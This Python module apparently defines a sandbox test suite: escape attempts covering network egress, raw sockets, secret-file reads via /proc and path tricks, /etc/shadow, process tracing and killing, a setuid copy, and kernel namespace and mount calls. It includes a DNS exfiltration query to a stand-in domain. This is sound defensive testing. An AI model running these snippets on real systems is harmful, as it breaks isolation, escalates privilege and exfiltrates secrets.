"""Attempts to get out of a box, each a few lines of Python that run with everything of `attempts.py` at hand.

An attempt that goes through ends; one that is refused raises OSError. `targets` are those of `alive_host`, and `T` names
them inside. `control`: how the same lines are shown to work outside a box, so that a refusal proves something:
`host` runs them as they are, `namespace` in a mount and process namespace of their own (they would change the host),
`target` relies on the target's proof of life alone (the lines would harm it).
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """
import json, sys, threading, time, select
sys.path.insert(0, "/work")
from attempts import *
T = json.loads(sys.argv[1])
LOOP, OWN, SIX = (tuple(pair) for pair in T["tcp"])
SYS |= {"ptrace": {"x86_64": 101, "aarch64": 117}[platform.machine()],
        "process_vm_readv": {"x86_64": 310, "aarch64": 270}[platform.machine()],
        "pidfd_send_signal": 424, "umount2": {"x86_64": 166, "aarch64": 39}[platform.machine()],
        "finit_module": {"x86_64": 313, "aarch64": 273}[platform.machine()],
        "name_to_handle_at": {"x86_64": 303, "aarch64": 264}[platform.machine()],
        "quotactl": {"x86_64": 179, "aarch64": 60}[platform.machine()],
        "fanotify_init": {"x86_64": 300, "aarch64": 262}[platform.machine()],
        "syslog": {"x86_64": 103, "aarch64": 116}[platform.machine()],
        "swapon": {"x86_64": 167, "aarch64": 224}[platform.machine()],
        "sethostname": {"x86_64": 170, "aarch64": 161}[platform.machine()]}
room = ctypes.create_string_buffer(256)
def do(name, *arguments): call(name, *arguments)()
def query():
    labels = b"".join(bytes([len(x)]) + x for x in (b"c2VjcmV0", b"exfil", b"example", b"org"))
    return bytes([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + labels + bytes([0, 0, 1, 0, 1])
def refused_by_status(status):
    if status: raise OSError(errno.EPERM, "status")
def dial(address=None, family=2, kind=1, protocol=0): exchange(family, address or OWN, kind, protocol)
def attempt():
"""
EPILOGUE = "\nprint(outcome(attempt))\n"


@dataclass(frozen=True)
class Attempt:
    """name: of the test. code: the body of a function. control: see the module."""

    name: str
    code: str
    control: str = "host"


def _all(control: str, **codes: str) -> list[Attempt]:
    return [Attempt(name.replace("_", " "), code, control) for name, code in codes.items()]


NETWORK = _all(
    "host",
    tcp_to_loopback_of_the_host="dial(LOOP)",
    tcp_to_the_host="dial()",
    tcp_to_v6_loopback="dial(SIX, 10)",
    tcp_v4_mapped="dial((f'::ffff:{OWN[0]}', OWN[1]), 10)",
    tcp_mptcp="dial(protocol=262)",
    tcp_not_blocking="""
s = socket.socket(); s.setblocking(False); code = s.connect_ex(OWN)
if code not in (0, errno.EINPROGRESS): raise OSError(code, "connect")
select.select([], [s], [], 3); code = s.getsockopt(1, 4)
if code: raise OSError(code, "later")
s.getpeername()""",
    tcp_from_a_bound_port="s = socket.socket(); s.bind(('0.0.0.0', 0)); s.settimeout(3); s.connect(OWN)",
    tcp_from_a_thread="""
found = []
t = threading.Thread(target=lambda: found.append(outcome(dial))); t.start(); t.join()
refused_by_status(found != ['open'])""",
    tcp_from_a_daemon_without_environment="""
code = "import socket; socket.create_connection((%r, %d), timeout=3)" % OWN
refused_by_status(subprocess.run(["setsid", "-w", "env", "-i", sys.executable, "-I", "-c", code], stderr=-3).returncode)""",
    tcp_from_a_double_fork="""
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(w, outcome(dial).encode()); os._exit(0)
    os._exit(0)
os.wait(); refused_by_status(os.read(r, 64) != b'open')""",
    udp_connected="dial(kind=2)",
    udp_v4_mapped="dial((f'::ffff:{OWN[0]}', OWN[1]), 10, 2)",
    udp_sendto="socket.socket(2, 2).sendto(b'hit', OWN)",
    udp_sendmsg="socket.socket(2, 2).sendmsg([b'hit'], [], 0, OWN)",
    udp_connect_then_sendto="s = socket.socket(2, 2); s.connect(LOOP); s.sendto(b'hit', OWN)",
    dns_to_a_literal_resolver="""
s = socket.socket(2, 2); s.settimeout(3); s.sendto(query(), OWN); s.recv(64)""",
    dns_over_tcp_to_a_literal_resolver="""
s = socket.create_connection(OWN, timeout=3); s.sendall(bytes([0, len(query())]) + query()); s.recv(64)""",
    abstract_socket="exchange(1, '\\0' + T['abstract'])",
    socket_at_its_path="exchange(1, T['unix'])",
    socket_through_pid_1="exchange(1, '/proc/1/root' + T['unix'])",
    racing_address="""
import struct as S
a = ctypes.create_string_buffer(S.pack('=H', 2) + S.pack('!H', OWN[1]) + socket.inet_aton('127.0.0.1') + bytes(8))
good, bad = socket.inet_aton('127.0.0.1'), socket.inet_aton(OWN[0])
stop = []
def flip():
    while not stop: a[4:8] = bad; a[4:8] = good
t = threading.Thread(target=flip); t.start(); through = False
for _ in range(400):
    s = socket.socket(); s.settimeout(1)
    if libc.connect(s.fileno(), a, 16) == 0 and s.getpeername()[0] != '127.0.0.1': through = True
    s.close()
stop.append(1); t.join()
refused_by_status(not through)""",
)
FAST_OPEN = [Attempt("tcp fast open", "socket.socket().sendto(b'hit', 0x20000000, OWN)")]
SOCKETS = [
    Attempt(f"socket {name}", f"socket.socket(*{arguments})")
    for name, arguments in {
        "vsock": (40, 1), "packet raw": (17, 3, 0x300), "packet datagram": (17, 2, 0x300), "raw": (2, 3, 1),
        "raw any": (2, 3, 255), "raw6": (10, 3, 58), "netlink netfilter": (16, 3, 12), "netlink audit": (16, 3, 9),
        "netlink uevent": (16, 3, 15), "netlink diag": (16, 3, 4), "udplite": (2, 2, 136), "sctp": (2, 1, 132),
        "algorithms": (38, 5), "bluetooth": (31, 3), "xdp": (44, 3), "keys": (15, 3, 2), "ping": (2, 2, 1),
    }.items()
]  # fmt: skip
FILES = _all(
    "host",
    secret_by_path="open(T['secret']).read()",
    secret_through_pid_1="open('/proc/1/root' + T['secret']).read()",
    secret_through_own_root="open('/proc/self/root' + T['secret']).read()",
    secret_by_a_link_out_of_the_checkout="os.symlink(T['secret'], 'way-out'); open('way-out').read()",
    secret_by_many_dots="open('../' * 40 + T['secret'].lstrip('/')).read()",
    shadow="open('/etc/shadow').read()",
    root_home="refused_by_status(set(os.listdir('/root')) <= {'.pyenv', '.local'})  # where the interpreter may lie",
    host_processes="open(f\"/proc/{T['victim']}/environ\").read()",
    root_of_a_host_process="os.listdir(f\"/proc/{T['victim']}/root\")",
    memory_of_a_host_process="open(f\"/proc/{T['victim']}/mem\", 'rb').close()",
    shared_memory_of_the_host="open('/dev/shm/' + T['shared']).read()",
    kernel_log="os.open('/dev/kmsg', os.O_RDONLY)",
    physical_memory="os.open('/dev/mem', os.O_RDONLY)",
    block_device="os.open('/dev/' + sorted(n for n in os.listdir('/sys/block') if not n.startswith('loop'))[0], 0)",
    fuse="os.open('/dev/fuse', os.O_RDWR)",
    control_groups="os.open('/sys/fs/cgroup', 0)",
    release_agent="os.listdir('/sys/kernel')",
    sysrq="os.open('/proc/sysrq-trigger', os.O_WRONLY)",
    core_pattern="""
v = open('/proc/sys/kernel/core_pattern', 'rb').read()
os.write(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY), v)""",
    oom_score="os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-900')",
)
FILES += _all(
    "target",
    secret_overwritten="open(T['secret'], 'w').write('x')",
    secret_by_a_hard_link="os.link(T['secret'], 'hard'); open('hard').read()",
    system_program_overwritten="open('/usr/bin/env', 'r+b').write(b'x')",
    user_added="open('/etc/passwd', 'a').write('x')",
    objects_of_the_repository_written="open('/opt/git-objects/0/x', 'w').close()",
    packages_of_all_boxes_written="open('/opt/venv/bin/x', 'w').close()",
    scripts_of_the_platform_written="open('/opt/smp/x', 'w').close()",
    written_above_the_checkout="open('/work/../smp-was-here', 'w').close()",
)
PROCESSES = _all(
    "target",
    victim_killed="os.kill(T['victim'], 9)",
    victim_traced="do('ptrace', 16, T['victim'], 0, 0)",
    victim_read="""
vector = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(room), 16))
do('process_vm_readv', T['victim'], vector, 1, vector, 1, 0)""",
    victim_by_handle="os.pidfd_open(T['victim'])",
    # What answers is the box itself, if anything; the victim is looked at afterwards.
    everyone_signalled="os.kill(-1, 0) if os.getppid() else None; os.kill(T['victim'], 15)",
    parent_of_pid_1="os.kill(int(open('/proc/1/stat').read().rsplit(')', 1)[1].split()[1]) or T['victim'], 9)",
    own_setuid_program="""
import shutil
shutil.copy('/usr/bin/env', 'mine'); os.chmod('mine', 0o6755)
out = subprocess.run(['./mine', 'sh', '-c', 'cat /etc/shadow'], capture_output=True); refused_by_status(out.returncode)""",
    setuid_program_of_the_host="""
refused_by_status(subprocess.run(['su', '-c', 'id'], stdin=-3, stdout=-3, stderr=-3).returncode)""",
    became_root="os.setuid(0)",
)
KERNEL = _all(
    "namespace",
    mount="do('mount', b'none', b'/tmp', b'tmpfs', 0, b'')",
    mount_remounted_writable="do('mount', b'', b'/usr', b'', 0x20 | 0x1000, b'')",
    proc_unmounted="do('umount2', b'/proc', 2)",
    mount_by_the_new_calls="do('fsopen', b'tmpfs', 0)",
    tree_cloned="do('open_tree', -100, b'/', 1)",
    root_pivoted="os.makedirs('/tmp/p', exist_ok=True); do('pivot_root', b'/tmp/p', b'/tmp/p')",
    root_changed="os.chroot('/tmp')",
    user_namespace="do('unshare', 0x10000000)",
    network_namespace="do('unshare', 0x40000000)",
    mount_namespace="do('unshare', 0x20000)",
    user_namespace_by_clone="""
pid = libc.syscall(SYS['clone'], 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
if pid < 0: raise OSError(ctypes.get_errno(), 'clone')""",
    namespace_entered="do('setns', os.open('/proc/self/ns/uts', 0), 0)",
    host_name="do('sethostname', socket.gethostname().encode(), len(socket.gethostname()))",
    device_node="os.mknod('/tmp/disk-node', 0o60666, os.makedev(7, 0)); os.unlink('/tmp/disk-node')",
    overlay_deletion_forged="os.mknod('/tmp/whiteout', 0o20666, 0); os.unlink('/tmp/whiteout')",
    program_in_the_kernel="""
do('bpf', 0, struct.pack('=5I', 2, 4, 8, 1, 0).ljust(128, bytes(1)), 128)""",
    events_of_the_kernel="do('perf_event_open', struct.pack('=IIQ', 1, 112, 0).ljust(112, bytes(1)), 0, -1, -1, 0)",
    io_uring="do('io_uring_setup', 4, ctypes.create_string_buffer(256))",
    page_faults="do('userfaultfd', 1)",
    keyring="do('keyctl', 0, -3, 0)",
    key_added="do('add_key', b'user', b'smp-test', b'y', 1, -3)",
    file_by_handle="""
handle = ctypes.create_string_buffer(struct.pack('=Ii', 128, 0) + bytes(128)); mount = ctypes.c_int()
do('name_to_handle_at', -100, b'/usr', handle, ctypes.byref(mount), 0)
do('open_by_handle_at', os.open('/usr', 0), handle, 0)""",
    fanotify="do('fanotify_init', 0, 0)",
    log_of_the_kernel="do('syslog', 3, room, 8)",
    old_calls="refused_by_status(in_child(legacy_call) != 'open')",
)
ALL = (*NETWORK, *FAST_OPEN, *SOCKETS, *FILES, *PROCESSES, *KERNEL)
